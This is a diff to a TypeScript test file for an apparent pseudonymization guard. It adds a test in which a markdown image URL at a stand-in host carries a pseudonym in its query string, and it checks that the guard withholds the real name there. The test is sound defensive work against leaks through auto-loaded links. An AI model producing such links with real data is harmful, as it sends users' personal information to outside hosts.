@@ -1,6 +1,7 @@
 import { expect } from 'chai';
 import fc from 'fast-check';
 import type { Pseudonym } from '../ids.ts';
+import { mayLoadAddresses } from './autoload/autoload.ts';
 import { createMonitor, withoutWrites } from '../monitor.ts';
 import { createMemoryStore, type MappingStore } from '../store/store.ts';
 import {
@@ -405,6 +406,17 @@ describe('an answer', () => {
     expect(asked).to.deep.equal([[anna, mail]]);
   });
 
+  it('keeps a pseudonym in an address that a renderer loads, and counts it', async () => {
+    const guard = guardFor();
+    const [anna = ''] = tagsIn(await sendText(guard, 'Anna'));
+    const text = (who: string): string => `${who}: ![x](https://e.example/?q=${anna})`;
+    expect(await guard.response({ texts: [text(anna), text(anna)] }, caller)).to.deep.include({
+      ...{ texts: [text('Anna'), text('Anna')], action: 'GUARDRAIL_INTERVENED' },
+      ...{ restored: 1, withheld: 1, unknown: 0 },
+    });
+    expect(await guard.response({ texts: [`[]:&${anna}`] }, caller)).to.deep.include({ action: 'NONE', withheld: 1 });
+  });
+
   it('keeps a pseudonym whose value is lost, and counts it', async () => {
     const { guard, store } = createTestGuard(createOracle(people));
     const sent = await sendText(guard, 'Anna');
@@ -580,7 +592,10 @@ describe('round trips', () => {
             expect(piece.includes(planted), `${JSON.stringify(planted)} in ${JSON.stringify(piece)}`).to.equal(false);
         }
         for (const tag of sent.flatMap(tagsIn)) expect(texts.join('\n').includes(tag)).to.equal(false);
-        expect((await guard.response({ texts: sent }, caller)).texts).to.deep.equal(texts);
+        const back = await guard.response({ texts: sent }, caller);
+        // What stands in an address that a renderer loads does not come back: see autoload.test.ts.
+        if (back.withheld > 0) expect(texts.some(mayLoadAddresses)).to.equal(true);
+        else expect(back.texts).to.deep.equal(texts);
       }),
       { numRuns: 4000 },
     );
